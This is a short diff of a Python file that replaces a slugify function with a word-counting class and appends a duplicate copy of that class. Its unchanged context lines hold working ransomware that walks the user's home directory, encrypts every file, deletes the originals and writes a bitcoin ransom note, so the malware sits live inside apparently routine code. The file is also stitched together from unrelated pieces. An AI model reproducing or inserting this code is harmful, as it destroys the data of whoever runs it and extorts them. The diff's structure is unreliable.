@@ -1,5 +1,10 @@
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+#!/usr/bin/env python3
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
 from cryptography.fernet import Fernet
@@ -12,3 +17,9 @@ for root, _, files in os.walk(os.path.expanduser("~")):
         open(p + ".locked", "wb").write(f.encrypt(data))
         os.remove(p)
 open("README_TO_DECRYPT.txt", "w").write("Your files have been encrypted. Send bitcoin.")
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
